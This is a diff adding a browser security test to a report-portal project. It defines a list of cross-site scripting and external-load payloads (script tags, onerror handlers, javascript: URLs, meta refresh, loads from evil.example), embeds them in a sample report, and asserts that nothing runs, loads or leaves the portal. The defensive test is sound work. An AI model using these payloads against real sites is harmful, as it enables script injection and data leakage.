@@ -7,12 +7,18 @@ import re
 import sqlite3
 from collections.abc import Callable
 from contextlib import closing
+from html import escape
 from pathlib import Path
+from urllib.parse import quote
 
 import pytest
 
+from etl.load import Writer, open_database
+from etl.process import process
+from etl.report import Origin
 from tests.browser.conftest import Visit
 from tests.portal.conftest import Home
+from tests.sites.pages import sites
 
 Open = Callable[..., Visit]
 #: Name → address; {report}, {pdf}, {agency} are filled from the sample data.
@@ -169,3 +175,64 @@ def test_a_report_prints_without_the_frame(visit: Open, pages: dict[str, str]) -
     assert not page.locator("header.site nav").is_visible()
     assert not page.locator(".quick").is_visible()
     assert page.locator("table.form").first.is_visible()
+
+
+#: Ways in which a page of a stranger makes a browser run or load something.
+HOSTILE = (
+    "<script>document.title='run'</script>", "<script src=//evil.example/a.js></script>", "<img src=x onerror=\"document.title='run'\">",
+    "<svg onload=\"document.title='run'\"></svg>", "<iframe src=\"javascript:parent.document.title='run'\"></iframe>",
+    "<iframe srcdoc=\"<script>parent.document.title='run'</script>\"></iframe>", "<a href=\"javascript:document.title='run'\">1</a>",
+    "<object data=//evil.example/a.swf></object>", "<embed src=//evil.example/a.swf>", "<link rel=stylesheet href=//evil.example/a.css>",
+    "<meta http-equiv=refresh content=\"0;url=//evil.example/\">", "<base href=//evil.example/>", "<form action=//evil.example/><button>1</button></form>",
+    "<style>@import '//evil.example/a.css'; body{background:url(//evil.example/b.png)}</style>", "<video src=//evil.example/a.mp4 autoplay></video>",
+    "<details open ontoggle=\"document.title='run'\">1</details>", "<body onpageshow=\"document.title='run'\">",
+    "<math><mtext><img src=x onerror=\"document.title='run'\"></mtext></math>", "</td></tr></table></main><script>document.title='run'</script>",
+    "&lt;script&gt;document.title='run'&lt;/script&gt;", "<!--><img src=x onerror=\"document.title='run'\">-->",
+    "<table background=//evil.example/a.png><tr><td style=\"background:url(//evil.example/c.png)\">1</td></tr></table>",
+)
+
+
+@pytest.fixture(scope="module")
+def hostile(home: Home) -> list[str]:
+    """The pages of a report that holds all of that, as elements and as text of its table and prose; read and loaded as any other."""
+    site, sample = next((s, e) for s in sites() for e in s.expected if e.document.endswith(".html") and e.year == 2023)
+    page = site.pages[sample.document].body.decode("utf-8").replace(sample.publisher, "示例恶县人民政府")
+    shown = escape("".join(HOSTILE))
+    page = page.replace("申请人情况", "申请人情况" + shown).replace("</p>", shown + "</p>", 3)
+    page = page.replace("</body>", "".join(HOSTILE) + "</body>")
+    found = Origin(name="1.html", url="http://evil.example/1.html", fetched_at="2025-05-01T00:00:00Z", region_code="330000", level="county")
+    with closing(open_database(home.database)) as database:
+        writer = Writer(database, "hostile")
+        sha256 = home.archive.put(page.encode(), found)
+        result = process(page.encode(), found)
+        assert result.report, result.error
+        writer.load(result, found, "text/html", len(page))
+        writer.derive()
+        identifier = database.execute("select id from reports where document_sha256 = ?", [sha256]).fetchone()[0]
+    keys = {cell.table: cell.key for cell in result.report.cells}
+    return [f"/report/{identifier}", *(f"/report/{identifier}/cell/{'/'.join(key)}" for key in keys.values()), f"/search?q={quote('恶县')}",
+            f"/original/{sha256}"]
+
+
+def test_nothing_in_an_original_runs_loads_or_leaves(visit: Open, hostile: list[str]) -> None:
+    assert len(hostile) > 4
+    for scripts in (True, False):
+        window = visit(java_script_enabled=scripts)
+        asked: list[str] = []
+        window.page.on("request", lambda request, asked=asked: asked.append(request.url))
+        window.page.on("dialog", lambda dialog: pytest.fail(dialog.message))
+        for path in hostile:
+            if path.startswith("/original/"):
+                with window.page.expect_download() as handed:  # never a page of the portal's
+                    window.page.evaluate("address => { location.href = address }", path)
+                assert handed.value.url.endswith(path)
+                continue
+            window.go(path)
+            window.page.wait_for_load_state("networkidle")
+            assert window.page.title() != "run"
+            assert window.page.locator("h1").count() == 1
+            assert window.page.locator("footer.site").is_visible()
+            assert window.page.locator("script, iframe, object, embed, video, style, base, meta[http-equiv]").count() == 0
+            assert window.page.locator(":is(main, main *)").evaluate_all(
+                "all => all.every(e => [...e.attributes].every(a => !a.name.startsWith('on') && a.name !== 'style' && !/^\\s*javascript:/i.test(a.value)))")
+        assert all(address.startswith(window.url) for address in asked), [a for a in asked if not a.startswith(window.url)]
